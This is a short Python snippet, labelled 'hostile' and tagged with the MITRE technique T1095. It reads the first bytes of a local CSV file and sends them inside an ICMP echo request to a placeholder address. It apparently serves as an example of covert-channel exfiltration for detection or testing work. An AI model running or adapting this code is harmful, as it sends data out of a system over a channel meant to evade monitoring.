# hostile: data carried in ICMP echo requests (T1095 non-application layer protocol)
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
payload = open("/work/data.csv", "rb").read(56)
s.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01" + payload, ("198.51.100.20", 0))
